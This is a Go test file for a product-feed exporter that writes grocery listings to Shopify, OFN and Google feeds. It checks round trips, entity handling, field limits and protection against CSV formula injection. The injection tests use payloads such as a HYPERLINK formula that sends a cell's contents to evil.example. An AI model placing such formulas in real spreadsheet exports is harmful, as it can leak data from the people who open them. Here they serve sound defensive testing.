package feed

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"
)

var cheese = Listing{
	ID: "prd_portland_0", ProducerID: "pro_portland_0", Handle: "gouda", Producer: "Willow \"Dairy\"",
	Title:       "=Gouda, aged",
	Description: "Two years old.\n\nNutty & <sweet>.", Category: "Cheese", Path: "Dairy & eggs > Cheese",
	Tags:      []string{"hard, cow", "raw"},
	Allergens: []string{"milk"}, Certifications: []string{"Organic; EU"}, Link: "https://shop.test/p/gouda",
	Images: []string{"https://shop.test/1", "https://shop.test/2", "https://shop.test/3"},
	Offers: []Offer{
		{
			ID: "var_portland_0", Title: "Wedge", SKU: "-1", Price: "24.00", Currency: "USD", ByWeight: true,
			Available: 12_350,
		},
		{
			ID: "var_portland_1", Title: "Piece", Barcode: "4006381333931", Price: "6.50", Currency: "USD",
			UnitValue: 250, Unit: "g", Available: 0,
		},
	},
}

func write(t *testing.T, w *Writer, out *bytes.Buffer) [][]string {
	t.Helper()
	if err := w.Write(cheese); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err) // among others, rows of another length than the header
	}
	return rows
}

func TestWhatIsWrittenIsReadBack(t *testing.T) {
	var shopify, ofn bytes.Buffer
	if rows := write(t, NewShopifyWriter(&shopify), &shopify); len(rows) != 4 {
		t.Errorf("%d rows, want a header, two variants and an image", len(rows))
	}
	write(t, NewOFNWriter(&ofn), &ofn)
	want := `
shopify
4 skipped [] 
2 "=Gouda, aged" by "Willow \"Dairy\"" in ["Cheese"] tags ["hard cow" "raw"] continued false
   "Two years old.\n\nNutty & <sweet>."
   2 "Wedge" -1 24.00 for 1 kg 0 12350 
   3 "Piece"  6.50 each 250g 0 4006381333931
ofn
2 "=Gouda, aged" by "Willow \"Dairy\"" in ["Cheese"] tags [] continued false
   "Two years old.\n\nNutty & <sweet>."
   2 "Wedge" -1 24.00 for 1 kg 0 12350 
   3 "Piece"  6.50 each 250g 0 
`
	if got := told(t, shopify.String()) + told(t, ofn.String()); got != want[1:] {
		t.Errorf("got:\n%s", got)
	}
}

func TestATextThatHasAnEntityComesBackAsItIs(t *testing.T) {
	odd := Listing{
		Handle: "x", Producer: "R&amp;D", Title: "&lt;b&gt; &section; & Co", Category: "A &amp; B",
		Tags: []string{"salt &amp; pepper"},
		Offers: []Offer{{
			Title: "&eacute;", SKU: "A&amp;B", Price: "1.00", UnitValue: 1,
			Unit: "jar &amp; lid",
		}},
	}
	for name, made := range map[string]func(*bytes.Buffer) *Writer{
		"shopify": func(out *bytes.Buffer) *Writer { return NewShopifyWriter(out) },
		"ofn":     func(out *bytes.Buffer) *Writer { return NewOFNWriter(out) },
	} {
		var out bytes.Buffer
		w := made(&out)
		if err := errors.Join(w.Write(odd), w.Flush()); err != nil {
			t.Fatal(err)
		}
		got := told(t, out.String())
		for _, want := range []string{
			`"&lt;b&gt; &section; & Co" by "R&amp;D" in ["A &amp; B"]`,
			`"&eacute;" A&amp;B`,
		} {
			if !strings.Contains(got, want) {
				t.Errorf("%s: %s is not in\n%s", name, want, got)
			}
		}
	}
}

func TestNoExportHasCellsThatASpreadsheetCalculates(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example")`
	listing := Listing{
		ID: "prd_x_1", ProducerID: "pro_x_1", Handle: "h", Producer: "@SUM(1)", Title: formula,
		Description: "-2+3", Category: "+1", Path: "Cheese", Link: "http://shop.test/p",
		Offers: []Offer{{
			ID: "var_x_1", Title: "=1", SKU: "+1", Barcode: "@1", Price: "1.00",
			Currency: "USD",
		}},
	}
	for name, separator := range map[string]string{"shopify": ",", "ofn": ",", "google": "\t"} {
		var out strings.Builder
		w := map[string]interface {
			Write(Listing) error
			Flush() error
		}{"shopify": NewShopifyWriter(&out), "ofn": NewOFNWriter(&out), "google": NewGoogleWriter(&out)}[name]
		if err := errors.Join(w.Write(listing), w.Flush()); err != nil {
			t.Fatal(err)
		}
		for _, cell := range strings.FieldsFunc(out.String(),
			func(r rune) bool { return strings.ContainsRune(separator+"\n", r) }) {
			if cell = strings.TrimPrefix(cell, `"`); strings.IndexAny(cell, "=+-@") == 0 {
				t.Errorf("%s has the cell %q", name, cell)
			}
		}
	}
}

// A name may begin with a quote, which a reader takes away, or with a wide sign.
func TestNoQuoteTurnsANameIntoAFormula(t *testing.T) {
	for _, title := range []string{`"=HYPERLINK(""http://evil.example/?""&A2,""Cheese"")"`, "＝1+1", `"open`} {
		var out strings.Builder
		w := NewGoogleWriter(&out)
		if err := errors.Join(w.Write(Listing{
			ID: "prd_x_1", Title: title, Link: "http://shop.test/p",
			Offers: []Offer{{ID: "var_x_1", Price: "1.00", Currency: "USD"}},
		}), w.Flush()); err != nil {
			t.Fatal(err)
		}
		read := csv.NewReader(strings.NewReader(out.String()))
		read.Comma = '\t'
		rows, err := read.ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %v, %v", title, rows, err)
		}
		if got := rows[1][1]; got != title && got != "'"+title || strings.ContainsAny(got[:1], "=+-@") ||
			strings.HasPrefix(got, "＝") {
			t.Errorf("%s is read as %s", title, got)
		}
	}
}

func TestTheGoogleFeedKeepsItsLimits(t *testing.T) {
	long := cheese
	long.ID, long.Title, long.Description = "prd_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc",
		strings.Repeat("ä", 200), strings.Repeat("ö\t\n", 6000)
	long.ProducerID = "pro_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc"
	long.Offers = append([]Offer{}, long.Offers...)
	long.Offers[0].ID = "var_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc"
	var out bytes.Buffer
	w := NewGoogleWriter(&out)
	for _, l := range []Listing{cheese, long} {
		if err := w.Write(l); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	if len(lines) != 5 {
		t.Fatalf("%d lines", len(lines))
	}
	for i, l := range lines[1:] {
		cells := strings.Split(l, "\t")
		if len(cells) != len(googleColumns) {
			t.Fatalf("row %d has %d cells", i, len(cells))
		}
		for at, most := range map[int]int{0: 50, 1: 150, 2: 5000, 14: 50, 17: 50} {
			if n := utf8.RuneCountInString(cells[at]); n > most || n == 0 {
				t.Errorf("%s has %d characters", googleColumns[at], n)
			}
		}
	}
	want := "var_portland_1\t'=Gouda, aged – Piece\tTwo years old. Nutty & <sweet>.\thttps://shop.test/p/gouda\thttps://shop.test/1\t" +
		"https://shop.test/2,https://shop.test/3\tout_of_stock\t6.50 USD\t\"Willow \"\"Dairy\"\"\"\t4006381333931\tyes\tnew\t" +
		"Food, Beverages & Tobacco > Food Items\tDairy & eggs > Cheese\tprd_portland_0\t250 g\t100 g\tpro_portland_0"
	if lines[2] != want {
		t.Errorf("got\n%s\nwant\n%s", lines[2], want)
	}
}
